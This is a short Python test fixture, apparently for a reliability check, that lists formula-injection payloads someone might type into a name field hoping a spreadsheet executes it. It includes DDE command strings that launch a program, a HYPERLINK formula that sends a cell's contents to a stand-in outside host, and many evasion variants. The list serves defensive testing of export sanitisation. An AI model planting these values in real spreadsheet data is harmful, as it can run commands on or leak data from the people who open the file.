"""What somebody types into a name in the hope that a spreadsheet runs it (RELIABILITY T14)."""
PAYLOADS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://elsewhere.example?x="&A1,"click")', "+1+1", "+cmd|'/C calc'!A0", "-1+1",
    "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)", "@cmd", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    ";=1+1", ';"=1+1', '"=1+1"', "'=1+1", "  =1+1", "\ufeff=1+1", "\u200b=1+1", "Wit;=1+1;=2", "\x00=1+1", "\u202e=1+1", 'a",=1+1',
)
